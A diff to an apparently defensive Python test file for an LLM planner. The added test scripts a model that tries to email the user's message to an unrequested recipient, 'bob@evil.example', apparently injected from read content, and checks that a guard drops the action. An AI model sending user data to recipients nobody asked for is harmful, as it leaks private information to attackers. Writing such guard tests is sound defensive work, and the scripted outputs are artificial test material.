@@ -114,3 +114,15 @@ def test_the_taking_action_is_written_right_after_the_result_and_numbered_last()
     # Prefilled up to the unused result (Ana's address; "email it" sends no named file), not to
     # the end of the plan.
     assert backend.options[1].prefill == '1. open_and_get_file_path("lease")\n2. get_email_address("Ana")\n3. '
+
+
+def test_a_taking_action_the_guard_refuses_is_dropped_and_the_plan_stands() -> None:
+    request = "email Ana that the lease is signed"
+    dropped = '1. get_email_address("Ana")\n2. join()<END_OF_PLAN>'
+    # A recipient nobody asked for (copied from some email, say): refused, and the plan is not failed for it.
+    taking = 'compose_new_email(["$1", "bob@evil.example"], [], "Lease", "the lease is signed", [])\n'
+    backend = ScriptedLLM([dropped, taking])
+    ready = Planner(backend, builtin_registry(), PlannerConfig(prompt_style="compact")).plan(request, MONDAY)
+    assert len(backend.options) == 2
+    assert ready.error is None and ready.stopped is None and ready.plan is not None
+    assert [a.tool for a in ready.plan.tool_actions] == ["get_email_address"]
